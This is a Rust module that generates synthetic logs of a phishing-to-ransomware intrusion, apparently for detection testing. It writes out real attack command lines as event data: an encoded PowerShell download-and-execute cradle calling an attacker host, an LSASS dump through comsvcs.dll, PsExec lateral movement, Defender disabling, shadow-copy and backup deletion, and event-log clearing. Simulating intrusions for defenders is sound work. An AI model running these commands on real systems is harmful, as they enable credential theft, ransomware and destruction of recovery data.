//! The intrusion, from about three hours ago: a phishing mail with a
//! macro document reaches d.whitlock; Word starts a script host, which
//! starts encoded PowerShell calling out to the intruder's server; LSASS
//! is dumped and the domain admin adm.hale's credentials reused; PsExec
//! carries the payload to five more hosts; Defender is turned off, shadow
//! copies and the backup catalogue deleted, logs cleared; then files are
//! encrypted to one new extension with a ransom note in every folder.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use crate::estate::{Host, NETBIOS, attacker, cast};
use crate::records::cloud::{self, Mail};
use crate::records::windows::{Logon, Proc};
use crate::rng::file_digest;

use super::Writer;

const OFFICE_ROOT: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const STAGING: &str = "C:\\ProgramData\\SvcUpdate";
/// The payload as PsExec copies it to each target.
const PAYLOAD: &str = "C:\\Windows\\svcupd.exe";
const ATTACHMENT: &str = "INV-4471.docm";
/// Files encrypted per host: more than the 20 the encryption rule and the
/// 50 the major-incident criterion need.
const FILES_PER_HOST: usize = 60;
/// Folders that get a ransom note, per host.
const NOTES_PER_HOST: usize = 12;

/// PowerShell's `-EncodedCommand`: Base64 of the UTF-16LE script.
pub(crate) fn encoded(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(bytes)
}

pub(super) fn phishing_to_ransomware(w: &mut Writer<'_>) {
    let estate = w.estate;
    let (Some(victim), Some(admin), Some(desk)) = (
        estate.person(cast::VICTIM),
        estate.person(cast::STOLEN_ADMIN),
        estate.host(cast::VICTIM_HOST),
    ) else {
        return;
    };
    let user = victim.windows();
    let home = format!("C:\\Users\\{}", victim.sam);

    // 1. The mail, delivered as clean.
    let t = w.ago(190 * 60);
    let (id, mid) = (
        w.uuid(),
        format!("<{}@northbridge-supplies.example>", w.rng.hex(16)),
    );
    let digest = file_digest(ATTACHMENT).to_ascii_lowercase();
    let recipient = victim.upn();
    w.emit(
        t,
        &cloud::mail_delivered(
            t,
            &Mail {
                id: &id,
                message_id: &mid,
                sender: attacker::SENDER,
                sender_ip: attacker::SENDER_IP,
                recipient: &recipient,
                subject: "Overdue invoice INV-4471 - final reminder",
                attachment: ATTACHMENT,
                attachment_sha256: &digest,
            },
        ),
    );

    // 2. Opened from Outlook; Word runs the macro, which writes and runs a
    //    script.
    let outlook_image = format!("{OFFICE_ROOT}\\OUTLOOK.EXE");
    let outlook = w.new_proc(&outlook_image, &format!("\"{outlook_image}\" "), &user);
    let saved = format!(
        "{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3ZK1V7M\\{ATTACHMENT}"
    );
    let t = w.ago(186 * 60);
    w.file(desk, t, &outlook, &saved);
    let word_image = format!("{OFFICE_ROOT}\\WINWORD.EXE");
    let word = w.new_proc(
        &word_image,
        &format!("\"{word_image}\" /n \"{saved}\" /o \"\""),
        &user,
    );
    let t = w.ago(185 * 60);
    w.process(desk, t, &word, &outlook);
    let script = format!("{home}\\AppData\\Local\\Temp\\inv4471.js");
    w.file(desk, Writer::after(t, 9), &word, &script);
    let wscript = w.new_proc(
        "C:\\Windows\\System32\\wscript.exe",
        &format!("\"C:\\Windows\\System32\\wscript.exe\" //B //E:jscript \"{script}\""),
        &user,
    );
    w.process(desk, Writer::after(t, 10), &wscript, &word);

    // 3. Encoded PowerShell fetches the implant from the intruder's server.
    let download = format!(
        "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('https://{}/cdn/update.ps1')",
        attacker::C2_HOST
    );
    let ps = w.new_proc(
        POWERSHELL,
        &format!(
            "powershell.exe -NoP -NonI -W Hidden -enc {}",
            encoded(&download)
        ),
        &user,
    );
    let t = Writer::after(t, 12);
    w.process(desk, t, &ps, &wscript);
    w.connect(
        desk,
        Writer::after(t, 2),
        &ps,
        attacker::C2_IP,
        attacker::C2_HOST,
        443,
    );
    let implant = format!("{STAGING}\\svcupd.exe");
    w.file(desk, Writer::after(t, 20), &ps, &implant);

    // 4. Looking around.
    let mut at = Writer::after(t, 600);
    for cmd in [
        "whoami.exe /all",
        "net.exe group \"Domain Admins\" /domain",
        "nltest.exe /dclist:brightwater",
        "net.exe view \\\\FS01",
    ] {
        let image = format!(
            "C:\\Windows\\System32\\{}",
            cmd.split(' ').next().unwrap_or(cmd)
        );
        let p = w.new_proc(&image, cmd, &user);
        w.process(desk, at, &p, &ps);
        at = Writer::after(at, 40);
    }

    // 5. LSASS dumped through comsvcs.dll.
    let t = w.ago(160 * 60);
    let mut dump = w.new_proc(
        "C:\\Windows\\System32\\rundll32.exe",
        &format!("\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 {STAGING}\\lsass.dmp full"),
        &user,
    );
    dump.integrity = "High";
    w.process(desk, t, &dump, &ps);
    w.file(
        desk,
        Writer::after(t, 3),
        &dump,
        &format!("{STAGING}\\lsass.dmp"),
    );

    // 6. adm.hale's credentials, reused: a shell as him, PsExec to each
    //    target, the payload started there by the PsExec service.
    let admin_user = admin.windows();
    let t = w.ago(150 * 60);
    let mut admin_shell = w.new_proc(
        "C:\\Windows\\System32\\cmd.exe",
        "\"C:\\Windows\\system32\\cmd.exe\"",
        &admin_user,
    );
    admin_shell.integrity = "High";
    w.process(desk, t, &admin_shell, &ps);
    let targets: Vec<&Host> = cast::TARGETS
        .iter()
        .filter_map(|name| estate.host(name))
        .collect();
    let mut payloads: Vec<(&Host, Proc)> = vec![];
    for (i, target) in targets.iter().enumerate() {
        let t = Writer::after(t, 60 + 180 * i64::try_from(i).unwrap_or(0));
        let mut psexec = w.new_proc(
            &format!("{STAGING}\\PsExec64.exe"),
            &format!(
                "{STAGING}\\PsExec64.exe \\\\{} -accepteula -d -c -f {implant}",
                target.name
            ),
            &admin_user,
        );
        psexec.integrity = "High";
        w.process(desk, t, &psexec, &admin_shell);
        let logon_id = format!("0x{}", w.rng.hex(6).to_ascii_lowercase());
        w.logon(
            target,
            Writer::after(t, 1),
            &Logon {
                user: &admin.sam,
                domain: NETBIOS,
                logon_type: 3,
                ip: &desk.ip,
                workstation: &desk.name,
                logon_id: &logon_id,
            },
            true,
        );
        w.privileges(target, Writer::after(t, 1), &admin.sam, NETBIOS);
        let services = w.new_proc(
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            "NT AUTHORITY\\SYSTEM",
        );
        let svc = w.new_proc(
            "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe",
            "NT AUTHORITY\\SYSTEM",
        );
        w.process(target, Writer::after(t, 2), &svc, &services);
        let mut payload = w.new_proc(PAYLOAD, &format!("\"{PAYLOAD}\" -run"), &admin_user);
        payload.integrity = "High";
        w.process(target, Writer::after(t, 4), &payload, &svc);
        w.connect(
            target,
            Writer::after(t, 6),
            &payload,
            attacker::C2_IP,
            attacker::C2_HOST,
            443,
        );
        payloads.push((target, payload));
    }
    // The workstation itself is encrypted too, by the implant already there.
    let mut local = w.new_proc(&implant, &format!("\"{implant}\" -run"), &admin_user);
    local.integrity = "High";
    w.process(desk, w.ago(130 * 60), &local, &admin_shell);
    payloads.push((desk, local));

    // 7. Security tooling off, recovery removed, logs cleared.
    for (i, (host, payload)) in payloads.iter().enumerate() {
        let t = w.ago(120 * 60 - 90 * i64::try_from(i).unwrap_or(0));
        let mut off = w.new_proc(
            POWERSHELL,
            "powershell.exe -NoP -Command \"Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true\"",
            &admin_user,
        );
        off.integrity = "High";
        w.process(host, t, &off, payload);
        w.defender_off(host, Writer::after(t, 2));
        let mut vss = w.new_proc(
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet",
            &admin_user,
        );
        vss.integrity = "High";
        w.process(host, Writer::after(t, 30), &vss, payload);
    }
    if let Some((fs, payload)) = payloads.first() {
        let t = w.ago(105 * 60);
        for (k, cmd) in [
            (
                "C:\\Windows\\System32\\wbadmin.exe",
                "wbadmin.exe delete catalog -quiet",
            ),
            (
                "C:\\Windows\\System32\\wevtutil.exe",
                "wevtutil.exe cl System",
            ),
            (
                "C:\\Windows\\System32\\wevtutil.exe",
                "wevtutil.exe cl Security",
            ),
        ]
        .iter()
        .enumerate()
        {
            let mut p = w.new_proc(cmd.0, cmd.1, &admin_user);
            p.integrity = "High";
            w.process(
                fs,
                Writer::after(t, 10 * i64::try_from(k).unwrap_or(0)),
                &p,
                payload,
            );
        }
        w.security_log_cleared(fs, Writer::after(t, 21), &admin.sam, NETBIOS);
    }

    // 8. Encryption: every host within a few minutes of the others.
    for (i, (host, payload)) in payloads.iter().enumerate() {
        let start = w.ago(60 * 60 - 240 * i64::try_from(i).unwrap_or(0));
        encrypt(w, host, payload, start);
    }
}

/// The folders encrypted on a host.
fn folders(host: &Host) -> Vec<String> {
    let root = match host.role {
        crate::estate::Role::Workstation => "C:\\Users\\Public\\Documents".to_owned(),
        _ => "D:\\Shares".to_owned(),
    };
    [
        "Finance\\2026\\Q3",
        "Finance\\2026\\Q4",
        "Operations\\Routes",
        "Operations\\Exports",
        "HR\\Contracts",
        "Sales\\Quotes",
        "Sales\\Customers",
        "Logistics\\Manifests",
        "Logistics\\Carriers",
        "Warehouse\\Stock",
        "IT\\Runbooks",
        "Management\\Board",
    ]
    .iter()
    .map(|f| format!("{root}\\{f}"))
    .collect()
}

fn encrypt(w: &mut Writer<'_>, host: &Host, payload: &Proc, start: jiff::Timestamp) {
    const KINDS: &[&str] = &["xlsx", "docx", "pdf", "csv"];
    let dirs = folders(host);
    for n in 0..FILES_PER_HOST {
        let dir = &dirs[n % dirs.len()];
        let kind = KINDS[n % KINDS.len()];
        let path = format!("{dir}\\file-{n:04}.{kind}.{}", attacker::EXTENSION);
        let t = Writer::after(start, 2 * i64::try_from(n).unwrap_or(0));
        let t = w.jitter(t);
        w.file(host, t, payload, &path);
    }
    for (n, dir) in dirs.iter().take(NOTES_PER_HOST).enumerate() {
        let t = Writer::after(start, 125 + 3 * i64::try_from(n).unwrap_or(0));
        w.file(host, t, payload, &format!("{dir}\\{}", attacker::NOTE));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_commands_are_base64_of_utf16_little_endian() {
        assert_eq!(encoded("whoami"), "dwBoAG8AYQBtAGkA");
    }
}
